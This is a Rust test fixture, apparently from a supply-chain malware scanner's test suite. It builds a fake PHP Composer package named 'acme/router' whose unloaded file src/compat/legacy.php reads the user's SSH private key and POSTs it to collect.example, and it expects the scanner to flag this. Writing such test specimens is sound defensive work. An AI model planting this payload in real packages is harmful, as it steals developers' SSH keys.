//! A PHP library with a file that nothing loads and that sends an SSH key when it is included.
//!
//! Must be found: every PHP file is included.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const LEGACY: &str = r"<?php
$secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
$options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
@file_get_contents('http://collect.example/include', false, stream_context_create($options));
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/router", "1.9.0")
        .field("autoload", json!({"psr-4": {"Acme\\Router\\": "src/"}}))
        .file(
            "src/Router.php",
            "<?php\nnamespace Acme\\Router;\nclass Router {}\n",
        )
        .file("src/compat/legacy.php", LEGACY);
    package
        .specimen(
            "composer-include",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("when it is imported")
}
